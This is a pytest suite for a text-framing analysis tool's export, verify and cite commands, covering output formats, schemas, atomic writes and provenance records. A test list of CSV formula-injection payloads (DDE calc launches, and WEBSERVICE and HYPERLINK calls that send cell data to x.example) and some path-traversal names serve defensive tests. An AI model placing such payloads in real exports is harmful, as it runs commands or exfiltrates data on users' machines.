"""``framing export``, ``verify`` and ``cite``: what is written is whole, described, safe, and the same every time."""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import duckdb
import jsonschema
import pandas as pd
import pytest
from pyarrow import parquet

from framing.citation import bibtex, part, works
from framing.cli import main
from framing.errors import ConfigError
from framing.export.codebook import codebook
from framing.export.columns import OF_ANALYSES, TABLES
from framing.export.columns_wide import RATED
from framing.export.corpus_facts import CorpusFacts
from framing.export.folder import write_folder
from framing.export.methods import methods
from framing.export.provenance import Choices
from framing.export.rows import rows
from framing.export.table_files import TableWriter, field
from framing.staging import Staging
from framing.store import dumps
from framing.types import About, Analysis, Failure, Skipped

from .report_stories import STORIES, finnish, harbour, heavy, measured, tiny

ROOT = Path(__file__).resolve().parent.parent


def _stored(path: Path, *stories: Analysis, encoding: str = "utf-8") -> Path:
    path.write_bytes("".join(dumps(story) + "\n" for story in stories).encode(encoding))
    return path


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., Any]:
    """Return a function that runs a command in an empty folder and returns its status, output and messages."""
    monkeypatch.chdir(tmp_path)

    def call(*arguments: str) -> tuple[int, str, str]:
        with pytest.raises(SystemExit) as end:
            main(list(arguments))
        said = capsys.readouterr()
        return int(end.value.code or 0), said.out, said.err

    return call


def _records(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


# --- the folder ------------------------------------------------------------------------------------------------------


def test_the_folder_has_tables_words_and_its_record(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour(), measured(), finnish())
    status, out, err = run("export", "a.jsonl", "-o", "out", "--format", "csv", "--format", "parquet")
    assert status == 0
    assert err == "framing: 3 read: 3 analysed, 0 failed · 1 of the analysed without a checked sentence\n"
    names = {f"{name}{end}" for name in OF_ANALYSES for end in (".csv", ".parquet")}
    names |= {"datapackage.json", "codebook.md", "methods.md", "citation.bib", "provenance.json"}
    assert {path.name for path in (tmp_path / "out").iterdir()} == names
    assert out.split() == sorted(f"out/{name}" for name in names)


@pytest.mark.parametrize("table", OF_ANALYSES)
def test_csv_and_parquet_and_the_frame_hold_the_same(table: str, tmp_path: Path) -> None:
    stories = [harbour(), measured(), finnish(), heavy(20)]
    stories = [replace(one, article=replace(one.article, id=f"00{n}")) for n, one in enumerate(stories)]
    write_folder(stories, tmp_path, Choices(formats=("csv", "parquet")))
    from framing.export.tables import frame

    kinds = {"integer": "Int64", "number": "Float64", "boolean": "boolean", "string": "string"}
    types = {column.name: kinds[column.type] for column in TABLES[table].columns}
    plain = pd.read_csv(
        tmp_path / f"{table}.csv", dtype=types, keep_default_na=False, na_values=[""],
        true_values=["true"], false_values=["false"],
    )  # fmt: skip
    bulk = pd.read_parquet(tmp_path / f"{table}.parquet").astype(types)
    pd.testing.assert_frame_equal(plain, bulk)
    pd.testing.assert_frame_equal(plain, frame(table, stories))
    for column in parquet.read_schema(tmp_path / f"{table}.parquet"):
        assert column.metadata[b"description"]


def test_the_readers_of_operators_take_the_tables(tmp_path: Path) -> None:
    write_folder([harbour()], tmp_path, Choices(formats=("csv", "parquet")))
    for end in ("csv", "parquet"):
        (count,) = duckdb.sql(f"select count(*) from '{tmp_path}/findings.{end}'").fetchall()[0]
        assert count == len(harbour().findings)


def test_many_rows_are_written_in_groups(tmp_path: Path) -> None:
    stories = [replace(heavy(200), article=replace(heavy(200).article, id=str(n))) for n in range(40)]
    write_folder(stories, tmp_path, Choices(formats=("parquet",)))
    table = parquet.ParquetFile(tmp_path / "sentences.parquet")
    assert table.num_row_groups > 1
    assert table.metadata.num_rows == sum(len(story.sentences) for story in stories)


def test_the_wide_table_is_the_long_one_side_by_side() -> None:
    for make in (harbour, measured, finnish):
        story = make()
        (wide,) = rows("measures_wide", story)
        long = {(row["name"], row["voice"]): row for row in rows("measures", story)}
        for voice in ("writer", "source"):
            for name in RATED:
                found = long.get((name, voice), {})
                assert wide[f"{name}_{voice}"] == found.get("count")
                assert wide[f"{name}_{voice}_per_100"] == found.get("value")
                assert wide[f"{name}_{voice}_low"] == found.get("low")


# --- descriptions ----------------------------------------------------------------------------------------------------

_RESOURCE = {
    "type": "object",
    "required": ["name", "path", "schema", "profile"],
    "properties": {
        "name": {"type": "string", "pattern": "^[-a-z0-9._/]+$"},
        "path": {"type": "string", "pattern": r"^[^/\\][^\\]*$"},
        "schema": {
            "type": "object",
            "required": ["fields", "primaryKey", "missingValues"],
            "properties": {
                "fields": {
                    "type": "array",
                    "items": {
                        "type": "object",
                        "required": ["name", "type", "description"],
                        "properties": {
                            "type": {"enum": ["string", "integer", "number", "boolean"]},
                            "description": {"type": "string", "minLength": 10},
                            "constraints": {
                                "type": "object",
                                "properties": {
                                    "required": {"type": "boolean"},
                                    "enum": {"type": "array", "minItems": 1, "uniqueItems": True},
                                    "minimum": {"type": "number"},
                                    "maximum": {"type": "number"},
                                },
                                "additionalProperties": False,
                            },
                        },
                    },
                }
            },
        },
    },
}


@pytest.mark.parametrize("formats", [("csv",), ("parquet",), ("csv", "parquet")])
def test_the_data_package_is_one_and_its_rows_keep_to_it(formats: tuple[str, ...], tmp_path: Path) -> None:
    stories = [replace(make(), article=replace(make().article, id=name)) for name, make in STORIES.items()]
    write_folder([*stories, Failure(origin="x", stage="read", message="m")], tmp_path, Choices(formats=formats))
    package = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    tables = {}
    for resource in package["resources"]:
        jsonschema.validate(resource, _RESOURCE)
        assert (tmp_path / resource["path"]).is_file()
        if "csv" in formats:
            tables[resource["name"]] = _records(tmp_path / resource["path"])
    assert {resource["name"] for resource in package["resources"]} == set(TABLES)
    for resource in package["resources"] if "csv" in formats else ():
        found = tables[resource["name"]]
        schema = resource["schema"]
        keys = [tuple(row[key] for key in schema["primaryKey"]) for row in found]
        assert len(set(keys)) == len(keys) and all(all(key) for key in keys)
        for column in schema["fields"]:
            _keeps_to(column, [row[column["name"]] for row in found])
        for key in schema.get("foreignKeys", ()):
            (name,) = key["fields"]
            there = {row[name] for row in tables[key["reference"]["resource"]]}
            assert {row[name] for row in found if row[name]} <= there


def _keeps_to(column: dict[str, Any], values: list[str]) -> None:
    limits = column.get("constraints", {})
    given = [value for value in values if value != ""]
    assert not limits.get("required") or len(given) == len(values), column["name"]
    assert set(given) <= set(limits.get("enum", given)), column["name"]
    if column["type"] in ("integer", "number"):
        numbers = [int(value) if column["type"] == "integer" else float(value) for value in given]
        assert all(limits.get("minimum", number) <= number <= limits.get("maximum", number) for number in numbers)
    if column["type"] == "boolean":
        assert set(given) <= {"true", "false"}


def test_the_codebook_describes_every_column_of_the_files(tmp_path: Path) -> None:
    story = replace(harbour(), article=replace(harbour().article, extra=(("a|`b`", "news"),)))
    write_folder([story], tmp_path, Choices())
    text = (tmp_path / "codebook.md").read_text(encoding="utf-8")
    for name in OF_ANALYSES:
        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            head = next(csv.reader(file))
        section = text.partition(f"\n## {name}\n")[2].partition("\n## ")[0]
        described = re.findall(r"^\| `(.+?)` \| \w+(?:, can be empty)? \| (.{10,}) \|$", section, re.M)
        assert [one for one, _ in described] == [one.replace("|", "\\|").replace("`", "'") for one in head]
    assert codebook({name: table.columns for name, table in TABLES.items()}).count("\n## ") == len(TABLES)


# --- without text ----------------------------------------------------------------------------------------------------


def test_without_text_no_file_holds_words_of_the_article(run: Callable[..., Any], tmp_path: Path) -> None:
    story = harbour()
    sentence = story.sentences[5].span.text(story.article.text)
    extra = (("lead", sentence), ("html", "<p>" + "x" * 300 + "</p>"), ("desk", "news"))
    story = replace(story, article=replace(story.article, extra=extra))
    _stored(tmp_path / "a.jsonl", story)
    status, _, err = run("export", "a.jsonl", "-o", "out", "--no-text", "--format", "csv", "--format", "web-annotation")
    assert status == 0
    assert "the column lead of the input holds text of the articles, so it was left out" in err
    assert "the column html of the input" in err
    written = b"".join(path.read_bytes() for path in (tmp_path / "out").iterdir()).decode()
    for span in story.sentences:
        assert span.span.text(story.article.text) not in written
    assert "arrogant" not in written
    assert "xxxx" not in written
    (row,) = _records(tmp_path / "out" / "articles.csv")
    assert row["desk"] == "news" and "lead" not in row and "title" not in row
    assert row["text_sha256"]
    assert _records(tmp_path / "out" / "findings.csv")[0]["start"]


@pytest.mark.parametrize("name", ["webanno", "brat", "label-studio", "doccano"])
def test_formats_made_of_the_text_cannot_be_without_it(run: Callable[..., Any], tmp_path: Path, name: str) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    status, _, err = run("export", "a.jsonl", "-o", "out", "--no-text", "--format", name)
    assert status == 2
    assert err == (
        f"framing: {name} is made of the text, so it cannot be written with --no-text; use csv, parquet, "
        "web-annotation\n"
    )
    assert not (tmp_path / "out").exists()


# --- spreadsheets ----------------------------------------------------------------------------------------------------

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+9)*cmd|'/c calc'!A0", '=HYPERLINK("http://x.example/"&A1,"see")', '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")', '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "   +1+1", '"=1+1"', "'=1+1", '" =1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "|cmd", "\0=1+1", "\u00a0=1+1",
    "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "word;=1+1", "word\t=1+1", "word\n=1+1", 'word";"=1+1', "word\r\n@SUM(1)",
    "“=1+1", "=-1", "%0A-1+1;=1+1",
)  # fmt: skip


def _cells(text: str) -> list[str]:
    """Return the cells that a spreadsheet may make of a file: split at commas as written, and at other separators."""
    found = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
    for separator in (";", "\t", "|"):
        for line in re.split(r"[\r\n]+", text):
            found += [cell.strip('"') for cell in line.split(separator)]
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_a_formula_in_a_spreadsheet(payload: str, tmp_path: Path) -> None:
    base = harbour()
    extra = ((payload, payload),)
    story = replace(base, article=replace(base.article, outlet=payload, title=payload, authors=(payload,), extra=extra))
    story = replace(story, findings=(replace(base.findings[0], note=payload, term=payload, plainer=payload),))
    write_folder([story, Failure(origin=payload, stage="read", message=payload)], tmp_path, Choices(excel=True))
    for path in tmp_path.glob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")
        cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
        starts = {cell.lstrip(" '\"\u00a0\u3000\ufeff\u200b“")[:1] for cell in cells if not _number(cell)}
        guarded = {cell[:1] for cell in cells if cell.lstrip(" '\"\u00a0\u3000\ufeff\u200b“")[:1] in _RUN}
        assert guarded <= {"'"}, starts
        for cell in _cells(text):
            assert cell.lstrip(" ")[:1] not in _RUN or _number(cell), (path.name, cell)


_RUN = tuple("=+-@＝＋－＠|")


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell.strip()) is not None


def test_plain_files_are_lossless(tmp_path: Path) -> None:
    for payload in PAYLOADS:
        assert field(payload, guard=False) == payload
    assert field(-1.5) == "-1.5"
    assert field("plain; words - and a dash") == "plain; words - and a dash"


# --- ids, failures, wrong use ----------------------------------------------------------------------------------------


def test_an_id_that_comes_twice_stays_a_key(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour(), measured())
    status, _, _ = run("export", "a.jsonl", "a.jsonl", "-o", "out")
    assert status == 0
    made = [row["article_id"] for row in _records(tmp_path / "out" / "articles.csv")]
    assert len(set(made)) == 4
    assert made[:3] == ["harbour-1", "harbour-1-2", "harbour-1-3"]
    assert "an earlier article has the id" in _records(tmp_path / "out" / "articles.csv")[2]["notes"]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_files_of_powershell_are_read(run: Callable[..., Any], tmp_path: Path, encoding: str) -> None:
    _stored(tmp_path / "a.jsonl", harbour(), measured(), encoding=encoding)
    assert run("export", "a.jsonl", "-o", "out")[0] == 0
    assert len(_records(tmp_path / "out" / "articles.csv")) == 2


def test_analyses_are_known_however_their_keys_stand(run: Callable[..., Any], tmp_path: Path) -> None:
    data = json.loads(dumps(harbour()))
    lines = ["{", "", json.dumps(data, sort_keys=True, indent=None), dumps(measured())]
    (tmp_path / "a.jsonl").write_text("\n".join(lines), encoding="utf-8")
    status, _, err = run("export", "a.jsonl", "-o", "out")
    assert status == 3 and err.count("a.jsonl:") == 1
    made = [row["text_sha256"] for row in _records(tmp_path / "out" / "articles.csv")]
    assert made == [next(iter(rows("articles", one)))["text_sha256"] for one in (harbour(), measured())]


def test_damaged_lines_are_named_and_the_others_go_on(run: Callable[..., Any], tmp_path: Path) -> None:
    data = json.loads(dumps(harbour()))
    data["findings"][0]["end"] = 10**9
    lines = [dumps(measured()), "{", json.dumps(data), '{"schema":9}', "", dumps(harbour())]
    (tmp_path / "a.jsonl").write_text("\n".join(lines), encoding="utf-8")
    status, _, err = run("export", "a.jsonl", "-o", "out")
    assert status == 3
    assert [line.partition(": ")[2].partition(" ")[0] for line in err.splitlines()[:3]] == [
        "a.jsonl:2:", "a.jsonl:3:", "a.jsonl:4:",
    ]  # fmt: skip
    assert "5 read: 2 analysed, 3 failed" in err
    assert [row["origin"] for row in _records(tmp_path / "out" / "failures.csv")] == [
        "a.jsonl:2", "a.jsonl:3", "a.jsonl:4",
    ]  # fmt: skip


def test_nothing_to_export_writes_nothing(run: Callable[..., Any], tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text("", encoding="utf-8")
    for name in ("a.jsonl", "not-there.jsonl"):
        status, out, err = run("export", name, "-o", "out")
        assert (status, out) == (4, "")
        assert err.endswith("framing: nothing was written\n")
    assert not (tmp_path / "out").exists()


def test_articles_are_analysed_first(run: Callable[..., Any], tmp_path: Path) -> None:
    shutil.copy(ROOT / "examples" / "lake-name.txt", tmp_path / "story.txt")
    _stored(tmp_path / "a.jsonl", harbour())
    status, _, _ = run("export", "story.txt", "a.jsonl", "-o", "out")
    assert status == 0
    assert [row["origin"] for row in _records(tmp_path / "out" / "articles.csv")] == [
        "story.txt",
        harbour().article.origin,
    ]


def test_an_unknown_format_is_named(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    status, _, err = run("export", "a.jsonl", "--format", "excel")
    assert status == 2
    assert err.startswith("framing: there is no format 'excel'; the formats are csv, parquet, webanno")


def test_work_of_annotators_is_never_replaced(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    assert run("export", "a.jsonl", "-o", "out", "--format", "brat")[0] == 0
    (path,) = (tmp_path / "out" / "brat").glob("*.ann")
    path.write_text("T1\tLoaded 0 1\tx\n", encoding="utf-8")
    status, _, err = run("export", "a.jsonl", "-o", "out", "--format", "brat")
    assert status == 2
    assert "out/brat is not empty; people may have annotated there" in err
    assert path.read_text(encoding="utf-8") == "T1\tLoaded 0 1\tx\n"


def test_nothing_is_written_through_a_link(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "out").mkdir()
    (tmp_path / "precious.txt").write_text("precious", encoding="utf-8")
    (tmp_path / "out" / "findings.csv").symlink_to(tmp_path / "precious.txt")
    (tmp_path / "out" / "brat").symlink_to(tmp_path / "elsewhere")
    assert run("export", "a.jsonl", "-o", "out")[0] == 0
    assert (tmp_path / "precious.txt").read_text(encoding="utf-8") == "precious"
    assert not (tmp_path / "out" / "findings.csv").is_symlink()
    status, _, err = run("export", "a.jsonl", "-o", "out", "--format", "brat")
    assert (status, "is a link; nothing is written through it" in err) == (2, True)
    assert not list((tmp_path / "elsewhere").iterdir())


# --- the same, whole, small ------------------------------------------------------------------------------------------


def test_the_same_analyses_give_the_same_bytes(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour(), measured())
    formats = [word for name in ("csv", "parquet", "brat", "web-annotation") for word in ("--format", name)]
    for name in ("one", "two"):
        assert run("export", "a.jsonl", "-o", name, *formats)[0] == 0
    files = [path for path in (tmp_path / "one").rglob("*") if path.is_file()]
    assert len(files) > 20
    for path in files:
        assert path.read_bytes() == (tmp_path / "two" / path.relative_to(tmp_path / "one")).read_bytes(), path.name


def _environment() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT / "src")}


def test_a_killed_export_leaves_the_old_files_and_no_half_one(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    write_folder([harbour()], out, Choices(formats=("csv", "parquet", "doccano")))
    before = {path.name: path.read_bytes() for path in out.iterdir()}
    line = dumps(measured())
    for number in (signal.SIGKILL, signal.SIGTERM):
        command = [sys.executable, "-m", "framing", "export", "-", "-o", str(out), "--format", "csv", "--format",
                   "parquet", "--format", "doccano", "--format", "brat"]  # fmt: skip
        with subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=_environment(),
            text=True, encoding="utf-8",
        ) as process:  # fmt: skip
            assert process.stdin is not None
            for _ in range(200):
                process.stdin.write(line + "\n")
            process.stdin.flush()
            hidden: list[Path] = []
            for _ in range(600):
                hidden = list(out.glob(".framing-*.tmp/doccano.jsonl"))
                if hidden and hidden[0].stat().st_size:
                    break
                time.sleep(0.05)
            assert hidden, "it did not begin to write"
            process.send_signal(number)
            process.wait(timeout=30)
            process.stdin.close()
        shown = {path.name: path.read_bytes() for path in out.iterdir() if not path.name.startswith(".")}
        assert shown == before
        left = list(out.glob(".framing-*.tmp"))
        assert len(left) == (number == signal.SIGKILL)
        for folder in left:
            shutil.rmtree(folder)


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (lambda out: (out / "b.csv").mkdir(), "b.csv is a folder; move it away"),
        (lambda out: (out / "brat").write_text("x"), "brat is a file; move it away"),
        (lambda out: (out / "brat").symlink_to(out), "brat is a link; nothing is written through it"),
    ],
)
def test_where_one_place_cannot_take_its_file_none_is_touched(
    spoil: Callable[[Path], object], message: str, tmp_path: Path
) -> None:
    for name in ("a.csv", "failures.csv"):
        (tmp_path / name).write_text("old", encoding="utf-8")
    spoil(tmp_path)
    with pytest.raises(ConfigError, match=message), Staging(tmp_path) as staging:
        staging.remove("failures.csv")
        for name in ("a.csv", "b.csv", "brat/a.txt"):
            staging.open(name).write("new")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "old"
    assert (tmp_path / "failures.csv").exists()
    assert not list(tmp_path.glob(".framing-*"))


def test_a_disk_that_fails_while_files_move_is_one_line_and_the_record_stays(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_folder([harbour()], tmp_path, Choices())
    record = (tmp_path / "provenance.json").read_bytes()
    move = Path.replace

    def failing(self: Path, target: Path) -> Path:
        if target.name == "citation.bib":
            raise OSError(errno.EIO, "Input/output error")
        return move(self, target)

    monkeypatch.setattr(Path, "replace", failing)
    with pytest.raises(ConfigError, match="cannot be written to: Input/output error"):
        write_folder([measured()], tmp_path, Choices())
    assert (tmp_path / "provenance.json").read_bytes() == record


def test_an_error_leaves_the_old_files(tmp_path: Path) -> None:
    write_folder([harbour()], tmp_path, Choices())
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}

    def broken() -> Any:
        yield measured()
        raise RuntimeError

    with pytest.raises(RuntimeError):
        write_folder(broken(), tmp_path, Choices(formats=("csv", "parquet", "uima")))
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


_MEMORY = """
import resource, sys
from framing.cli import main
try:
    main(["export", sys.argv[1], "-o", sys.argv[2], *sys.argv[3:]])
except SystemExit as end:
    assert not end.code, end.code
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def test_two_thousand_articles_take_no_more_memory_than_two_hundred(tmp_path: Path) -> None:
    story = measured()
    used = {}
    for count in (200, 2000):
        with (tmp_path / f"{count}.jsonl").open("w", encoding="utf-8") as file:
            for number in range(count):
                one = replace(story, article=replace(story.article, id=f"{number:05}"))
                file.write(dumps(one) + "\n")
        formats = [word for name in ("csv", "doccano") for word in ("--format", name)]
        done = subprocess.run(
            [sys.executable, "-c", _MEMORY, str(tmp_path / f"{count}.jsonl"), str(tmp_path / f"out{count}"), *formats],
            capture_output=True, text=True, env=_environment(), check=True, timeout=300,
        )  # fmt: skip
        used[count] = int(done.stdout.split()[-1]) / 1024
        with (tmp_path / f"out{count}" / "articles.csv").open(encoding="utf-8") as file:
            assert sum(1 for _ in file) == count + 1
    assert used[2000] - used[200] < 40, used


# --- verify ----------------------------------------------------------------------------------------------------------


def test_verify_finds_what_was_changed(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour(), measured())
    _stored(tmp_path / "b.jsonl", measured())
    run("export", "a.jsonl", "-o", "out", "--format", "csv", "--format", "brat", "--excel")
    status, out, _ = run("verify", "out", "a.jsonl")
    assert (status, out.partition(": ")[0]) == (0, "out")
    assert "and these analyses give the same" in out
    assert run("verify", "out")[0] == 0
    status, out, _ = run("verify", "out", "b.jsonl")
    assert status == 1
    assert "the analyses are of other articles" in out
    assert "out/findings.csv differs from what these analyses give" in out
    with (tmp_path / "out" / "findings.csv").open("a") as file:
        file.write("x")
    (tmp_path / "out" / "quotes.csv").unlink()
    status, out, _ = run("verify", "out")
    assert (status, out) == (1, "out/findings.csv is not as it was written\nout/quotes.csv is missing\n")


def test_verify_trusts_no_record(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    run("export", "a.jsonl", "-o", "out")
    path = tmp_path / "out" / "provenance.json"
    record = json.loads(path.read_text(encoding="utf-8"))
    for name in ("../a.jsonl", "/etc/passwd", "..\\a.jsonl"):
        record["files"][0]["name"] = name
        path.write_text(json.dumps(record), encoding="utf-8")
        status, out, _ = run("verify", "out")
        assert status == 1
        assert "is no name of a file in this folder" in out
    record["files"][0]["name"] = "articles.csv"
    choices = record["choices"]
    for spoilt, message in (
        *((text, "is no record of an export; give a folder") for text in ("[]", "{}", '{"schema": 1, "files": []}')),
        *((text, "is not JSON; give a folder that framing export wrote") for text in ("", "[" * 100_000)),
        ({**record, "schema": 2}, "has schema 2; this version reads schema 1"),
        ({**record, "corpus_sha256": None}, "the record is damaged at corpus_sha256: "),
        ({**record, "choices": {**choices, "text": 7}}, "the record is damaged at choices.text: "),
        ({**record, "choices": {"formats": [], "text": True}}, "the record is damaged at choices.excel: field"),
    ):
        path.write_text(spoilt if isinstance(spoilt, str) else json.dumps(spoilt), encoding="utf-8")
        status, _, err = run("verify", "out", "a.jsonl")
        assert status == 2
        assert err.startswith(f"framing: out/provenance.json: {message}")
        assert err.count("\n") == 1
    path.unlink()
    assert run("verify", "out")[2].endswith("give a folder that framing export wrote\n")


def test_the_record_tells_nothing_of_the_machine(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    run("export", str(tmp_path / "a.jsonl"), "-o", str(tmp_path / "out"))
    text = (tmp_path / "out" / "provenance.json").read_text(encoding="utf-8")
    assert str(tmp_path) not in text
    record = json.loads(text)
    assert record["inputs"][0]["name"] == "a.jsonl"
    assert record["generated"] is None
    assert record["counts"] == {"analysed": 1, "checked": 1, "failed": 0, "left_out": {}}
    assert {one["name"] for one in record["files"]} == {
        path.name for path in (tmp_path / "out").iterdir() if path.name != "provenance.json"
    }


# --- R --------------------------------------------------------------------------------------------------------------


def test_the_recipe_for_r_runs_and_counts_the_same(tmp_path: Path) -> None:
    if shutil.which("Rscript") is None:
        pytest.skip("R is not installed")
    page = (ROOT / "docs" / "how-to-export.md").read_text(encoding="utf-8")
    recipe = [block for block in re.findall(r"^```r\n(.*?)^```", page, re.S | re.M) if "library(" not in block]
    assert len(recipe) == 2
    (tmp_path / "tables").mkdir()
    stories = [replace(harbour(), article=replace(harbour().article, id="007", outlet="NA")), measured(), finnish()]
    write_folder(stories, tmp_path / "tables", Choices())
    asked = (
        "cat(nrow(findings), sum(findings$weight), sum(articles$n_words_writer, na.rm = TRUE), articles$article_id[1], "
        "articles$outlet[1], sum(is.na(articles$n_findings_writer)))"
    )
    done = subprocess.run(
        ["Rscript", "-e", "\n".join([*recipe, asked])], cwd=tmp_path, capture_output=True, text=True, check=True,
        env={**os.environ, "LC_ALL": "C.UTF-8"}, timeout=120,
    )  # fmt: skip
    findings = [row for story in stories for row in rows("findings", story)]
    articles = [row for story in stories for row in rows("articles", story)]
    same, rest = done.stdout.strip().split("\n")
    assert same == "[1] TRUE"
    count, weight, words, first, outlet, empty = rest.split()
    assert (int(count), first, outlet) == (len(findings), "007", "NA")
    assert float(weight) == pytest.approx(sum(row["weight"] for row in findings), rel=1e-6)
    assert int(words) == sum(row["n_words_writer"] or 0 for row in articles)
    assert int(empty) == sum(row["n_findings_writer"] is None for row in articles)


# --- words for a paper -----------------------------------------------------------------------------------------------


def _facts(*items: Analysis | Failure) -> CorpusFacts:
    facts = CorpusFacts()
    for item in items:
        facts.add(item) if isinstance(item, Analysis) else facts.fail(item)
    return facts


def test_the_methods_paragraph_says_what_was_done() -> None:
    base = measured()
    ran = (About(id="lexicon:en", version="3", digest="ab" * 32, licence="Apache-2.0"),)
    one = replace(base, ran=ran, article=replace(base.article, outlet="A", published="2026-01-05T10:00:00Z"))
    two = replace(one, article=replace(base.article, outlet="B", published="2026-03-31"))
    text = methods(_facts(one, two, tiny(), Failure(origin="x", stage="read", message="m")))
    assert "We analysed 3 " in text
    assert "published 5 January 2026 to 31 March 2026, with framing" in text
    assert "1 article (33.3 %) was left out: 1 " in text
    assert "1 further input could not be read." in text
    assert "the lexicon en, version 3 (sha256 abababababab…)" in text
    assert "2,000 bootstrap samples of its sentences (seed 1)" in text
    assert "[On N sentences, drawn at random and coded by N coders" in text


def test_the_methods_paragraph_warns_of_mixed_versions() -> None:
    one = replace(measured(), made_with={"framing": "0.1.0", "fast": True})
    two = replace(measured(), made_with={"framing": "0.2.0", "fast": False})
    text = methods(_facts(one, two))
    assert "with framing 0.1.0 and 0.2.0." in text
    assert "Not all articles were analysed by the same version" in text
    assert "Some articles were analysed with --fast and some without" in text
    assert "Not all articles" not in methods(_facts(one, one))


def test_the_methods_paragraph_of_nothing_is_still_true() -> None:
    assert "We analysed 0 articles" in methods(_facts())
    skipped = replace(measured(), skipped=(Skipped(id="model:loaded", reason="gone"),))
    assert "Did not run for some articles: 1 model:loaded." in methods(_facts(skipped))


def test_cite_prints_what_is_in_use(run: Callable[..., Any], tmp_path: Path) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    status, out, _ = run("cite", "a.jsonl")
    assert status == 0
    assert out.startswith("The framing authors. (n.d.). framing: loaded")
    assert out.count("@software{") == 1
    assert out.count("@misc{") == len(harbour().ran)
    status, only, _ = run("cite", "a.jsonl", "--bibtex")
    assert out.endswith(only) and only.startswith("@software{framing,")
    status, installed, _ = run("cite")
    assert status == 0 and "framing-lexicon-en" in installed and "framing-model-" in installed
    assert re.search(r"lexicon:en rests on: .*Hyland\s2005", installed, re.S)
    assert re.search(r"was\slearned\sfrom: .*Fan\set\sal\.\s2019", installed, re.S)
    strange = replace(harbour(), ran=(About(id="lexicon:en", version="1", digest="0" * 64, licence="CC0-1.0"),))
    assert "cite also whoever made what was added" in " ".join(
        run("cite", str(_stored(tmp_path / "c.jsonl", strange)))[1].split()
    )
    (tmp_path / "b.jsonl").write_text("{\n" + dumps(harbour()), encoding="utf-8")
    assert run("cite", "b.jsonl")[0] == 3
    assert run("cite", "not-there")[0] == 4


def test_bibtex_is_whole_whatever_a_lexicon_is_called() -> None:
    about = About(id="lexicon:my_{list}%&", version="1}", digest="0" * 64, licence="CC BY\n4.0 #$~^\\")
    text = bibtex(part(about), "2026")
    assert text.startswith("@misc{framing-lexicon-my--list---,")
    bare = re.sub(r"\\[\\{}%&#$_^~]|\\text\w+\{\}", "", text)
    assert bare.count("{") == bare.count("}")
    assert not re.search(r"[%&#$~^]", bare)
    assert len(works("1", [about, about])) == 2


def test_the_writer_of_tables_can_be_used_alone(tmp_path: Path) -> None:
    with TableWriter(tmp_path, csv=False, parquet=True) as tables:
        tables.add(harbour())
    assert all(name.endswith((".parquet", ".json")) for name in tables.names)
    assert {path.name for path in tmp_path.iterdir()} == set(tables.names)


def test_without_pyarrow_one_line_says_what_to_install(
    run: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _stored(tmp_path / "a.jsonl", harbour())
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    status, _, err = run("export", "a.jsonl", "-o", "out", "--format", "parquet")
    assert status == 2
    assert err == "framing: Parquet needs pyarrow, which is not installed: pip install 'framing[parquet]'\n"
    assert not list((tmp_path / "out").iterdir())
